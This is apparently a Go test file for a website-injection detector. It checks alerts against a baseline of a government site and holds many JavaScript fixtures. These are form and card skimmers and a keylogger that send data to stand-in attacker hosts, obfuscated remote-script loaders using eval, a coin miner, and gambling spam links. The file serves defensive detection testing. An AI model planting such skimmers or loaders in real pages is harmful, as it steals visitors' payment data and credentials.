package compare

import (
	"fmt"
	"strings"
	"testing"
)

// library is something like a large honest file: it reads a field in one place,
// sends in another and knows the words of payment forms.
func library(release string) string {
	var b strings.Builder
	b.WriteString(`(function(w){"use strict";var v="` + release + `";function val(e){return e.value}function send(u,d){var x=new XMLHttpRequest();x.open("POST",u);x.send(d)}`)
	for i := range 600 {
		fmt.Fprintf(&b, "function m%d(a,b){if(a===b){return a+%d}for(var k in b){a[k]=b[k]||m%d(k,a)}return a.filter(function(c){return c>b})}\n", i, i, i/2)
	}
	return b.String() + `w.lib={val:val,send:send,names:["password","cardnumber"]}})(window);`
}

// escaped writes every letter as an escape, as machines do.
func escaped(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, `\x%02x`, s[i])
	}
	return b.String()
}

func reversed(s string) string {
	var b strings.Builder
	for i := len(s) - 1; i >= 0; i-- {
		b.WriteByte(s[i])
	}
	return b.String()
}

// table is a skimmer whose every word stands in a table of escaped strings.
func table() string {
	words := []string{"https://gate.evil-pay.top/i.php", "querySelectorAll", "input, select", "value", "XMLHttpRequest", "open", "POST", "send", "cc_number"}
	for i, w := range words {
		words[i] = `"` + escaped(w) + `"`
	}
	return "var t=[" + strings.Join(words, ",") + `];function g(){var f=document[t[1]](t[2]),d="";for(var i=0;i<f.length;i++){d+=f[i][t[3]]}var x=new window[t[4]]();x[t[5]](t[6],t[0]);x[t[7]](d)}setInterval(g,900)`
}

// Skimmers of every family alert as a critical or high injection: in the page, from
// a new host, at the end of a file that was there, in a handler; in the clear and in
// disguise; towards a new host and towards a rented corner of a good name.
func TestSkimmers(t *testing.T) {
	const fields = `var d="";document.querySelectorAll("input,select").forEach(function(f){d+=f.name+"="+f.value+"&"});`
	inline := func(code string) func(testing.TB) Look { return added("<script>" + code + "</script>") }
	b := learned(external("https://www.planning.gov.pk/js/site.js", library("1.0"))(t), ministryLook(t, 2), ministryLook(t, 3))
	for name, look := range map[string]func(testing.TB) Look{
		"beacon":                inline(`addEventListener("beforeunload",function(){` + fields + `navigator.sendBeacon("https://s.evil-pay.top/b",d)})`),
		"socket":                inline(`var w=new WebSocket("wss://s.evil-pay.top/b");` + fields + `w.send(d)`),
		"named card fields":     inline(`setInterval(function(){var n=document.getElementById("cc_number").value;var i=document.createElement("img");i.src="https://evil-pay.top/l?n="+n},700)`),
		"picture":               inline(fields + `new Image().src="https://s.evil-pay.top/p.gif?"+btoa(d)`),
		"split address":         inline(fields + `fetch("htt"+"ps:/"+"/s.evil"+"-pay.top/x",{method:"POST",body:d})`),
		"Telegram":              inline(fields + `fetch("https://api.telegram.org/bot1:x/sendMessage?text="+d)`),
		"Apps Script":           inline(fields + `fetch("https://script.google.com/macros/s/x/exec",{method:"POST",body:d})`),
		"bucket":                inline(fields + `fetch("https://storage.googleapis.com/evil-bucket/x",{method:"POST",body:d})`),
		"keys":                  inline(`var k="";document.addEventListener("keypress",function(e){k+=e.key;new Image().src="https://k.evil-log.top/?k="+k})`),
		"table of strings":      inline(table()),
		"quoted names":          inline(`this["eval"](this["atob"]("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPS8vY2RuLmV2aWwtcGF5LnRvcC9hPjwvc2NyaXB0Picp"))`),
		"backwards":             inline(`document.write('` + reversed(`<script src="https://cdn.evil-pay.top/a.js"></`+`script>`) + `'.split("").reverse().join(""))`),
		"escaped source":        inline(`eval("` + escaped(fields+`new Image().src="https://s.evil-pay.top/p.gif?"+d`) + `")`),
		"new host":              external("https://metrics.evil-pay.top/m.js", fields+`navigator.sendBeacon("/c",d)`),
		"published by anybody":  external("https://cdn.jsdelivr.net/gh/evil/m/m.js", fields+`navigator.sendBeacon("https://cdn.evil-pay.top/c",d)`),
		"end of the site's own": external("https://www.planning.gov.pk/js/site.js", library("1.0")+fields+`new Image().src="https://s.evil-pay.top/p.gif?"+d`),
		"end of a new version":  external("https://www.planning.gov.pk/js/site.js", library("1.1")+table()),
		"only signs":            inline(strings.Repeat("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", 40)),
	} {
		t.Run(name, func(t *testing.T) {
			r := Compare(b, look(t), nil)
			if r.Verdict != Alert && name != "only signs" || len(r.Findings) == 0 || r.Findings[0].Kind != Injection || r.Verdict == Alert && r.Findings[0].Severity.Rank() < High.Rank() {
				t.Error(describe(r))
			}
		})
	}
}

// charCodes writes a text as numbers, as loaders hide where they load from.
func charCodes(s string) string {
	codes := make([]string, len(s))
	for i := range len(s) {
		codes[i] = fmt.Sprint(s[i])
	}
	return "String.fromCharCode(" + strings.Join(codes, ",") + ")"
}

// looked is a loader that keeps every name in halves in a table, turned until a sum is
// right, and reads them by number, as a well-known obfuscator writes.
const looked = `var t=['se','nd','op','en','on','load','resp','onse','Text','GET','/wp-','count.js'];(function(a,n){while(n--){a['push'](a['shift']())}})(t,24);var f=function(i){return t[i-0x1a]};
var q=new XMLHttpRequest();q[f(0x1c)+f(0x1d)](f(0x23),f(0x24)+f(0x25),!![]);q[f(0x1e)+f(0x1f)]=function(){var g=q[f(0x20)+f(0x21)+f(0x22)];new Function(g)()};q[f(0x1a)+f(0x1b)](null)`

// Loaders of the kinds that are found on hijacked sites alert, in the page and behind
// a file of the site's own.
func TestLoaders(t *testing.T) {
	inline := func(code string) func(testing.TB) Look { return added("<script>" + code + "</script>") }
	b := learned(external("https://www.planning.gov.pk/js/site.js", library("1.0"))(t), ministryLook(t, 2), ministryLook(t, 3))
	for name, look := range map[string]func(testing.TB) Look{
		"all names by number":        inline(looked),
		"behind the site's own file": external("https://www.planning.gov.pk/js/site.js", library("1.0")+looked),
		"element in numbers":         inline(`(function(){var e=document.createElement(` + charCodes("script") + `);e.src=` + charCodes("https://cdn.evil-stat.top/s.js") + `;document.head.appendChild(e)})()`),
		"an answer becomes a script": inline(`fetch("https://get.evil-fix.top/r?n="+Date.now()).then(function(r){return r.text()}).then(function(a){var s=document.createElement("script");s.textContent=a;document.head.appendChild(s)})`),
		"an answer is evaluated":     inline(`$.ajax({url:"https://get.evil-fix.top/r",dataType:"text"}).done(function(answer){eval(answer)})`),
		"a miner by its name":        inline(`setTimeout(function(){new CoinHive.Anonymous("key",{throttle:0.9}).start()},60000)`),
		"a miner by its host":        external("https://authedmine.com/lib/a.min.js", "function nothing(a){return a}"),
	} {
		t.Run(name, func(t *testing.T) {
			r := Compare(b, look(t), nil)
			if r.Verdict != Alert || r.Findings[0].Kind != Injection || r.Findings[0].Severity.Rank() < High.Rank() {
				t.Error(describe(r))
			}
		})
	}
}

// One link is enough where the host sells what the words advertise, and none is needed
// where a text speaks as sellers do.
func TestLittleSpam(t *testing.T) {
	for fragment, want := range map[string]Verdict{
		`<p>Write to <a href="https://premium-casino-club.example/">casino siteleri</a> for help</p>`:              Alert,
		`<p>Getting in touch with <a href="http://203.0.113.9/">situs judi</a> is easy</p>`:                        Alert,
		`<p>The regulator warned of an <a href="https://news.example.org/warning">online casino</a> again</p>`:     Suspicious,
		`<p>Complain to the <a href="https://www.casinoauthority.gov.ph/">casino authority</a> of the country</p>`: Suspicious,
		`<p>SLOT GACOR hari ini, daftar slot dengan bonus</p>`:                                                     Alert,
		`<p>The ministry blocked a site that offered slot gacor to minors</p>`:                                     Benign,
		`<marquee style="position:absolute;width:0"><a href="https://seo.example/">hacklink</a></marquee>`:         Alert,
	} {
		if r := Compare(ministryBaseline(t), posted(fragment)(t), nil); r.Verdict != want {
			t.Errorf("%s: %s", fragment, describe(r))
		}
	}
}

// What owners add to their pages is for nobody's pager: widgets and forms of known
// and of unknown vendors, libraries in a new version or from another mirror.
func TestOwnersScripts(t *testing.T) {
	b := learned(external("https://www.planning.gov.pk/js/site-1.0.0.js", library("1.0"))(t), ministryLook(t, 2), ministryLook(t, 3))
	for name, tt := range map[string]struct {
		look func(testing.TB) Look
		most Verdict
	}{
		"tag manager":         {added(`<script>(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-X')</script>`), Benign},
		"old analytics":       {added(`<script>document.write(unescape("%3Cscript src='https://ssl.google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"))</script>`), Benign},
		"new version":         {external("https://www.planning.gov.pk/js/site-1.1.0.js", library("1.1")+"function added(a){return a||0}"), Benign},
		"library by mirror":   {external("https://cdn.jsdelivr.net/npm/swiper@11.1.0/swiper-bundle.min.js", library("11")), Benign},
		"form service":        {added(`<script>var f=document.getElementById("search");f.addEventListener("submit",function(e){e.preventDefault();fetch("https://formspree.io/f/abc",{method:"POST",body:new FormData(f)})})</script>`), Suspicious},
		"suggestions":         {added(`<script>var q=document.getElementById("q");q.onkeyup=function(){fetch("https://search.example-maps.org/suggest?q="+q.value)}</script>`), Suspicious},
		"chat of a new host":  {external("https://chat.example-talk.com/w.js", library("3")+`function open(){var f=document.createElement("iframe");f.src="https://chat.example-talk.com/box";document.body.appendChild(f)}`), Suspicious},
		"text of a module":    {added(`<script>fetch("https://api.example-weather.org/now").then(function(r){return r.json()}).then(function(w){document.getElementById("q").textContent=w.text})</script>`), Suspicious},
		"table by number":     {added(`<script>var m=[function(e,t,n){var r=n(1);t.a=r[n(2)]},function(e,t){t.b=1}];function n(i){return m[i]}var x=n(0);x.y=n(1);x.z=[n(2),n(3),n(4),n(5),n(6),n(7),n(8),n(9)]</script>`), Benign},
		"signs escaped":       {added(`<script>var h="` + strings.Repeat(`\x3cb\x3ehello\x3c/b\x3e`, 30) + `";document.title=document.title</script>`), Benign},
		"cookie consent":      {added(`<script>document.cookie="consent=1; expires=Fri, 31 Dec 2027 23:59:59 GMT; path=/";document.getElementById("q").value=""</script>`), Benign},
		"references in texts": {added(`<script>throw new Error("see https://docs.example-lib.dev/errors for "+document.getElementById("q").value);var x=new XMLHttpRequest()</script>`), Benign},
	} {
		t.Run(name, func(t *testing.T) {
			if r := Compare(b, tt.look(t), nil); r.Verdict != Benign && r.Verdict != tt.most {
				t.Error(describe(r))
			}
		})
	}
}

// Beyond the bounds scripts are left unread, the site's own files first, and the
// report says how many.
func TestUnreadScriptsAreReported(t *testing.T) {
	look := ministryLook(t, 4)
	for i := range maxNovelScripts + 5 {
		source := fmt.Sprintf("function own%d(a){return a+%d}", i, i)
		look.View.Scripts = append(look.View.Scripts, Script{Kind: "external", URL: fmt.Sprintf("%sjs/%d/x.js", ministryURL, i), Host: "www.planning.gov.pk", SHA256: digest(source), Length: len(source)})
		look.Sources[digest(source)] = source
	}
	skimmer := strings.TrimSuffix(strings.TrimPrefix(inlineSkimmer, "<script>"), "</script>")
	look.View.Scripts = append(look.View.Scripts, Script{Kind: "inline", URL: ministryURL, Host: "www.planning.gov.pk", SHA256: digest(skimmer), Length: len(skimmer)})
	look.Sources[digest(skimmer)] = skimmer
	r := Compare(ministryBaseline(t), look, nil)
	if !hasRule(r, "injection.skimmer") {
		t.Errorf("the last of many scripts is not read: %s", describe(r))
	}
	for _, s := range r.Signals {
		if s.Name == "unread_scripts" && s.Value == 7 { // with the script that the page had
			return
		}
	}
	t.Errorf("want 7 unread scripts reported: %s", describe(r))
}

// A package of a well-known name on a public mirror is its makers'; anybody's
// files on the same mirror are not, nor is a host that has the mirror in its path.
func TestNpmFile(t *testing.T) {
	for address, want := range map[string]bool{
		"https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js": true, "https://unpkg.com/@popperjs/core@2": true, "https://cdn.jsdelivr.net/npm/swiper/swiper.js": true,
		"https://cdn.jsdelivr.net/gh/x/jquery/jquery.js": false, "https://unpkg.com/jquery-cdn-fast@1/x.js": false, "https://evil.example/?//cdn.jsdelivr.net/npm/jquery": false, "https://cdn.jsdelivr.net.evil.example/npm/jquery": false,
	} {
		if npmFile(address) != want {
			t.Errorf("npmFile(%q) is %v", address, !want)
		}
	}
	for host, want := range map[string]bool{"google-analytlcs.top": true, "jquery-cdn.example.net": false, "cdn-jquery.top": true, "www.google-analytics.com": false, "example-share.com": false} {
		if imitates(host) != want {
			t.Errorf("imitates(%q) is %v", host, !want)
		}
	}
}

// BenchmarkManyScripts reads 60 new scripts of 100 kB.
func BenchmarkManyScripts(b *testing.B) {
	base, look := ministryBaseline(b), ministryLook(b, 4)
	look.Picture = nil
	for i := range 60 {
		source := strings.Repeat(library(fmt.Sprint(i)), 2)[:100_000]
		look.View.Scripts = append(look.View.Scripts, Script{Kind: "external", URL: fmt.Sprintf("%sjs/%d/x.js", ministryURL, i), Host: "www.planning.gov.pk", SHA256: fmt.Sprint(i), Length: len(source)})
		look.Sources[fmt.Sprint(i)] = source
	}
	for b.Loop() {
		Compare(base, look, nil)
	}
}
